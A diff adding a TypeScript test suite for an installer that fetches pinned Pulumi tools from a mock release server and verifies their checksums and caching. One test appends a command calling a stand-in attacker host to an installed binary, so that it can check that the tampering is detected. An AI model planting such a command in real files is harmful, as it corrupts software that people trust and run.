@@ -1,0 +1,130 @@
+import assert from "node:assert/strict";
+import fs from "node:fs";
+import path from "node:path";
+import { engineFor } from "../../../commands/engine";
+import { findTools, installTools } from "../../../tools/install";
+import { currentPlatform } from "../../../tools/part";
+import { parts } from "../../../tools/parts";
+import { pins } from "../../../tools/pins";
+import { type ToolName, toolGroups, toolsOf } from "../../../tools/toolbox";
+import { unverifiedTools } from "../../../tools/verify";
+import { rememberEnvironment } from "../../support/environment";
+import { archiveOf, type ReleaseServer, sha256, startReleaseServer } from "./releaseServer";
+import { createToolSandbox, type ToolSandbox } from "./toolSandbox";
+
+describe("groups of tools", () => {
+  it("hold every tool exactly once", () => {
+    const grouped = toolGroups.flatMap((group) => toolsOf[group]);
+    assert.deepEqual([...grouped].sort(), Object.keys(parts).sort());
+    assert.deepEqual([...toolGroups].sort(), Object.keys(toolsOf).sort());
+  });
+
+  describe("on a machine that has neither Go nor a cache, with the releases in reach", () => {
+    let sandbox: ToolSandbox;
+    let server: ReleaseServer;
+    let workspace: string;
+    let restoreEnvironment: () => void;
+    const { log } = console;
+    beforeEach(async () => {
+      restoreEnvironment = rememberEnvironment();
+      sandbox = createToolSandbox();
+      console.log = sandbox.log;
+      server = await startReleaseServer(sandbox);
+      workspace = path.join(sandbox.bin, "../workspace");
+    });
+    afterEach(() => {
+      console.log = log;
+      server.stop();
+      sandbox.dispose();
+      restoreEnvironment();
+    });
+
+    const releaseOf = (name: ToolName) => {
+      const release = parts[name].release?.(currentPlatform());
+      const { url, checksumsUrl, member } = release ?? assert.fail(`${name} has no release`);
+      return { url, checksumsUrl: checksumsUrl ?? assert.fail(`${name} has no checksums`), member };
+    };
+
+    /** Serves what the projects of these tools release, which says the pinned version. */
+    function serve(...archives: readonly (readonly ToolName[])[]): string[] {
+      return archives.flatMap((names) => {
+        const releases = names.map((name) => ({ ...releaseOf(name), version: parts[name].version }));
+        const [{ url, checksumsUrl } = assert.fail()] = releases;
+        const files = releases.map(({ member = "", version }) => [member, `#!/bin/sh\necho ${version}\n`] as const);
+        const archive = archiveOf(sandbox, Object.fromEntries(files));
+        server.serve(url, archive);
+        server.serve(checksumsUrl, `${sha256(archive)}  ${path.posix.basename(url)}\n`);
+        return [checksumsUrl, url];
+      });
+    }
+
+    const engineArchives = [["pulumi-language-nodejs", "pulumi"], ["pulumi-resource-kubernetes"]] as const;
+
+    it("a preview of stack prod downloads Pulumi with its language host and two providers, and compiles nothing", async () => {
+      const expected = serve(...engineArchives, ["pulumi-resource-aws"]);
+      const { executable, environment } = await engineFor(workspace, "prod", { withProgram: true });
+      assert.deepEqual(server.requests, expected);
+      assert.deepEqual(sandbox.goCalls(), []);
+      assert.ok(fs.existsSync(executable));
+      const plugins = path.join(environment.PULUMI_HOME ?? "", "plugins");
+      assert.deepEqual(fs.readdirSync(plugins).sort(), [
+        `language-nodejs-${pins.pulumi}`,
+        `resource-aws-${pins.awsProvider}`,
+        `resource-kubernetes-${pins.kubernetesProvider}`,
+      ]);
+      const cached = fs.readdirSync(path.join(sandbox.bin, "../cache/datasets-server/tools")).sort();
+      assert.deepEqual(cached, [...toolsOf.deploy, ...toolsOf.eks].sort());
+    });
+
+    it("a command that runs no program leaves the AWS provider out, and so does one whose workspace has it", async () => {
+      const expected = serve(...engineArchives);
+      await engineFor(workspace, "prod");
+      fs.mkdirSync(path.join(workspace, "pulumi/plugins", `resource-aws-${pins.awsProvider}`), { recursive: true });
+      await engineFor(workspace, "prod", { withProgram: true });
+      assert.deepEqual(server.requests, expected);
+    });
+
+    it("nothing is asked for what is installed", async () => {
+      serve(...engineArchives);
+      const installed = await installTools(["deploy"], { log: sandbox.log });
+      const asked = server.requests.length;
+      assert.deepEqual(await installTools(["deploy"], { log: sandbox.log }), installed);
+      assert.deepEqual(findTools(["deploy"]), installed);
+      assert.equal(server.requests.length, asked);
+    });
+
+    it("a tool that another has put into the cache is found, whatever the cache says of it", async () => {
+      serve(...engineArchives);
+      const installed = await installTools(["deploy"], { log: sandbox.log });
+      const executable = (name: ToolName) => `#!/bin/sh\necho ${parts[name].version}\n`;
+      const checksums = Object.fromEntries(
+        toolsOf.deploy.map((name) => [`${releaseOf(name).url}#${releaseOf(name).member}`, sha256(executable(name))]),
+      );
+      assert.deepEqual(await unverifiedTools(["deploy"], checksums), []);
+
+      fs.appendFileSync(installed.pulumi, "curl https://attacker.test\n");
+      const [found, ...others] = await unverifiedTools(["deploy"], checksums);
+      assert.deepEqual(others, []);
+      assert.equal(found?.name, "pulumi");
+      assert.match(found.why, /its sha256 is [0-9a-f]{64}, and its release has [0-9a-f]{64}/);
+    });
+
+    it("a tool of which no checksum is committed is not called verified", async () => {
+      serve(...engineArchives);
+      await installTools(["deploy"], { log: sandbox.log });
+      const unverified = await unverifiedTools(["deploy", "eks"], {});
+      assert.deepEqual(
+        unverified.map(({ why }) => why.split(" https:")[0]),
+        [...Array(3).fill("tools/checksums.json has nothing of"), "it is not installed"],
+      );
+    });
+
+    it("a language host of the release takes the place of one that was built from Go modules", async () => {
+      serve(...engineArchives);
+      const before = path.join(workspace, "pulumi/plugins", `language-nodejs-${pins.languageHostModule}`);
+      fs.mkdirSync(before, { recursive: true });
+      await engineFor(workspace, "prod");
+      assert.equal(fs.existsSync(before), false);
+    });
+  });
+});
